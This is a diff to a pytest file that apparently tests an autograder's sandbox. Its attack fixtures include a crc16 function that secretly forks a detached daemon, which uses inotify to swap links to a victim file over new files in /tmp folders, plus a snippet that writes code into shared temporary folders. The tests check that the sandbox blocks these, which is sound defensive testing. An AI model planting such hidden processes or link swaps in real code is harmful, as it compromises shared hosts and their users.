@@ -39,11 +39,12 @@ SEALED = SANDBOX.level == "sealed"
 ONLY_SEALED = pytest.mark.skipif(not SEALED, reason=f"no sealed level here: {SANDBOX.note}")
 SITE = sysconfig.get_paths()["purelib"]  # the grader's own site-packages, which holds pymodbus
 
-COPY = """import os, shutil, modbus_edu
-source = os.path.join(os.path.dirname(modbus_edu.__file__), 'crc.py')
+COPY = """import os, modbus_edu
+source = open(os.path.join(os.path.dirname(modbus_edu.__file__), 'crc.py')).read()
+source = source.replace('from .errors', 'from modbus_edu.errors')  # a module of its own, outside the package
 for folder in ('/tmp', '/tmp/work', '/tmp/home', '/dev/shm'):
     try:
-        shutil.copy(source, os.path.join(folder, 'crc_copy.py'))
+        open(os.path.join(folder, 'crc_copy.py'), 'w').write(source)
     except OSError:
         pass"""
 COPIED = """def crc16(data):
@@ -85,23 +86,28 @@ check('03.5', crc16)"""
 
 
 def swapper(victim: str) -> str:
-    """A process that outlives its cell: inotify on the kernel's folders, and a link to ``victim`` swapped
-    over every file that appears there (the next kernel's connection file), for a minute."""
-    return f"""import ctypes, os, struct, time
-if os.fork() == 0:
-    os.setsid()
-    if os.fork() == 0:
+    """A build exercise whose function, when the clean room calls it, leaves a process behind: inotify on
+    the room's folders, and a link to ``victim`` swapped over every file that appears there (the next
+    kernel's connection file, if the room were shared), for a minute.  The CRC itself is honest."""
+    return f"""def crc16(data):
+    import ctypes, os, struct, time
+    if not os.environ.get('SWAPPER') and os.fork() == 0:
+        os.environ['SWAPPER'] = '1'
+        os.setsid()
+        null = os.open('/dev/null', os.O_RDWR)
+        for fd in (0, 1, 2):
+            os.dup2(null, fd)
         libc = ctypes.CDLL(None, use_errno=True)
-        fd = libc.inotify_init()
+        watch = libc.inotify_init()
         for folder in ('/tmp/run', '/tmp', '/tmp/work'):
-            libc.inotify_add_watch(fd, folder.encode(), 0x100 | 0x80)  # IN_CREATE | IN_MOVED_TO
+            libc.inotify_add_watch(watch, folder.encode(), 0x100 | 0x80)  # IN_CREATE | IN_MOVED_TO
         end = time.time() + 60
         while time.time() < end:
-            data = os.read(fd, 65536)
+            events = os.read(watch, 65536)
             at = 0
-            while at < len(data):
-                wd, mask, cookie, length = struct.unpack_from('iIII', data, at)
-                name = data[at + 16:at + 16 + length].rstrip(b'\\0').decode()
+            while at < len(events):
+                length = struct.unpack_from('iIII', events, at)[3]
+                name = events[at + 16:at + 16 + length].rstrip(b'\\0').decode()
                 at += 16 + length
                 for folder in ('/tmp/run', '/tmp', '/tmp/work'):
                     path = os.path.join(folder, name)
@@ -111,8 +117,15 @@ if os.fork() == 0:
                             os.rename(path + '.swap', path)
                         except OSError:
                             pass
-    os._exit(0)
-time.sleep(1)"""
+        os._exit(0)
+    os.environ['SWAPPER'] = '1'
+    register = 0xFFFF
+    for byte in data:
+        register ^= byte
+        for _ in range(8):
+            register = (register >> 1) ^ 0xA001 if register & 1 else register >> 1
+    return register
+check('03.5', crc16)"""
 
 
 def _rows(out: Path) -> dict:
@@ -148,9 +161,9 @@ def attacked(tmp_path_factory):
     write(root / "pymodbus", "03_rtu_and_crc", [SETUP, PYMODBUS_CRC])
     write(root / "pymodbus", "04_ascii_and_lrc", [SETUP, PYMODBUS_LRC])
     write(root / "table", "03_rtu_and_crc", [SETUP, TABLE])
-    write(root / "swapper", "03_rtu_and_crc", [SETUP, swapper(str(victim)), "import time\ntime.sleep(5)",
-                                               right("03.5")])
-    write(root / "swapper", "04_ascii_and_lrc", [SETUP, swapper(str(victim)), right("04.5")])
+    write(root / "swapper", "03_rtu_and_crc", [SETUP, swapper(str(victim))])
+    write(root / "swapper", "04_ascii_and_lrc", [SETUP, "import time\ntime.sleep(3)", right("04.5")])
+    write(root / "swapper", "05_tcp_and_mbap", [SETUP, "import time\ntime.sleep(3)", right("05.1")])
     out = base / "grades"
     try:
         status = main(["grade", str(root), "--out", str(out), "--timeout", "60", "--jobs", "2", "-q"])
@@ -166,7 +179,7 @@ def test_a_link_swapped_over_the_next_kernels_files_changes_no_host_files_owner(
     before, after = attacked["before"], attacked["after"]
     assert (after.st_uid, after.st_gid, after.st_mode) == (before.st_uid, before.st_gid, before.st_mode)
     assert attacked["text"] == "ssh-ed25519 AAAA the instructor\n"
-    assert [attacked["rows"]["swapper"][key] for key in ("03.5", "04.5")] == ["right", "right"]  # its own
+    assert [attacked["rows"]["swapper"][key] for key in ("03.5", "04.5", "05.1")] == ["right"] * 3  # its own
 
 
 @ONLY_SEALED
